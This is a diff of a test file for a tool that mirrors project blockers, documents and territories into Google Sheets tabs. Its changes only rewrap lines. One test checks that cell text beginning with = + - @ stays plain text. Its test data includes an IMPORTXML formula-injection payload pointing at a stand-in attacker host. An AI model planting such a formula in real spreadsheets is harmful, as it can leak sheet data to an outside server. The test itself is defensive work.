@@ -64,13 +64,17 @@ describe('a mirrored tab', () => {
     expect(protection?.getDescription()).toBe(PROTECTION);
     expect(protection?.isWarningOnly()).toBe(true);
     expect(protection?.getRange().getNumColumns()).toBe(width);
-    const colours = sheet.getConditionalFormatRules().map((r) => r.getBooleanCondition().getCriteriaValues()[0]);
+    const colours = sheet
+      .getConditionalFormatRules()
+      .map((r) => r.getBooleanCondition().getCriteriaValues()[0]);
     expect(colours).toEqual(['Ouvert', 'En cours', 'Levé', 'Abandonné']);
   });
 
   it('replaces the row of a known id and appends new ids, never duplicating', () => {
     mirror(job(BLOCKERS, [blocker('b-1'), blocker('b-2')]));
-    mirror(job(BLOCKERS, [blocker('b-2', { status: 'resolved', solution: 'Arceaux posés' }), blocker('b-3')]));
+    mirror(
+      job(BLOCKERS, [blocker('b-2', { status: 'resolved', solution: 'Arceaux posés' }), blocker('b-3')]),
+    );
     mirror(job(BLOCKERS, [blocker('b-2', { status: 'resolved', solution: 'Arceaux posés' })]));
     expect(rows().map((r) => r.Identifiant)).toEqual(['b-1', 'b-2', 'b-3']);
     expect(rows()[1]).toMatchObject({ Statut: 'Levé', Solution: 'Arceaux posés' });
@@ -90,10 +94,26 @@ describe('a mirrored tab', () => {
   });
 
   it('keeps text starting with = + - @ as text, also when the row is rewritten later', () => {
-    const risky = ['=IMPORTXML("http://evil.example","//a")', '+33 6 12 34 56 78', '-- à revoir', '@claire', '1/2', '0042'];
-    mirror(job(BLOCKERS, risky.map((t, i) => blocker(`b-${i}`, { title: t }))));
+    const risky = [
+      '=IMPORTXML("http://evil.example","//a")',
+      '+33 6 12 34 56 78',
+      '-- à revoir',
+      '@claire',
+      '1/2',
+      '0042',
+    ];
+    mirror(
+      job(
+        BLOCKERS,
+        risky.map((t, i) => blocker(`b-${i}`, { title: t })),
+      ),
+    );
     mirror(job(BLOCKERS, [blocker('b-9')])); // re-reads and rewrites the risky rows
-    expect(rows().slice(0, risky.length).map((r) => r.Intitulé)).toEqual(risky);
+    expect(
+      rows()
+        .slice(0, risky.length)
+        .map((r) => r.Intitulé),
+    ).toEqual(risky);
     const sheet = tab();
     const formulas = sheet.getRange(1, 1, sheet.getLastRow(), sheet.getLastColumn()).getFormulas();
     expect(formulas.flat().filter(Boolean)).toEqual([]);
@@ -132,7 +152,10 @@ describe('codes, links and removals', () => {
       territoryId: 't-foix',
     };
     const link = { text: doc.title, url: doc.url };
-    mirror(job(DOCUMENTS, [doc]), job(TERRITORIES, [], { links: [{ id: 't-foix', header: 'Synthèse territoriale', link }] }));
+    mirror(
+      job(DOCUMENTS, [doc]),
+      job(TERRITORIES, [], { links: [{ id: 't-foix', header: 'Synthèse territoriale', link }] }),
+    );
     const col = TERRITORIES.columns.findIndex((c) => c.header === 'Synthèse territoriale') + 1;
     const cell = tab('Territoires').getRange(2, col).getRichTextValues()[0]![0]!;
     expect([cell.getText(), cell.getLinkUrl()]).toEqual([doc.title, doc.url]);
